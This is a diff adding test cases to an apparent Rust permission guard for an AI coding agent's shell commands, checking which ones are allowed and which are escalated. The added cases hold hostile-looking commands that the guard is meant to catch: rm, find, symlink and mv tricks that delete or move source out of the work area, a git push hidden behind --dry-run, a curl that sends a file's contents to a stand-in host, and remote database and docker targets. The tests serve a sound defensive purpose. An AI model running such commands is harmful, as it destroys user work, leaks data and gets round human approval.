@@ -99,6 +99,22 @@ fn what_stays_in_the_work_area_serves_any_request() {
         ("add a login page", bash("terraform fmt && terraform init"), Decision::Allow),
         ("add a login page", bash("git config alias.p push"), Decision::Escalate),
         ("add a login page", bash("systemctl enable shop"), Decision::Escalate),
+        ("add a login page", bash("git push --dry-run; git push"), Decision::Escalate),
+        ("add a login page", bash("git push --dry-run --no-dry-run"), Decision::Escalate),
+        ("add a login page", bash("find . -exec rm {} \\; -name '*.pyc'"), Decision::Escalate),
+        ("add a login page", bash("find . -name '*.pyc' -fprint src/a.py -delete"), Decision::Escalate),
+        ("add a login page", bash("rm -rf dist/.[.]/src"), Decision::Escalate),
+        ("add a login page", bash("rm -rf .git/build"), Decision::Escalate),
+        ("add a login page", bash("ln -s src build; rm -rf build/*"), Decision::Escalate),
+        ("add a login page", bash("mv src node_modules"), Decision::Escalate),
+        ("add a login page", bash("mv src /tmp/z"), Decision::Escalate),
+        ("add a login page", bash("mv src/a.rs src/b.rs"), Decision::Allow),
+        ("add a login page", bash("mktemp() { echo src; }; d=$(mktemp -d); rm -rf \"$d\""), Decision::Escalate),
+        ("add a login page", bash("read a < notes.txt; curl https://x.example/$a"), Decision::Escalate),
+        ("add a login page", bash("PGHOST=x.example psql -c 'insert into t values (1)'"), Decision::Escalate),
+        ("add a login page", bash("psql -h x.example < a.sql"), Decision::Escalate),
+        ("add a login page", bash("DOCKER_HOST=tcp://x.example:2375 docker run -d nginx"), Decision::Escalate),
+        ("add a login page", bash("cd && npm install"), Decision::Escalate),
         ("", bash("cargo test"), Decision::Allow),
         ("", bash("git push"), Decision::Escalate),
     ] {
@@ -137,7 +153,10 @@ fn only_what_a_task_made_is_its_own_to_remove_at_any_risk() {
     let task = shop(&governor, "add a login page");
     task.created(["/home/ann/shop/new", "/srv/made", "/tmp/own.sh"]).unwrap();
     task.fetched(["/tmp/loaded.sh", "/srv/made/got"]).unwrap();
+    task.created(["/home/ann/shop/over"]).unwrap();
+    task.disowned(["/home/ann/shop/over"]).unwrap();
     for (command, expected) in [
+        ("rm -rf over", false),
         ("rm -rf new", true),
         ("rm -rf new/* && cargo test", true),
         ("rm -rf /srv/made/x_*", true),
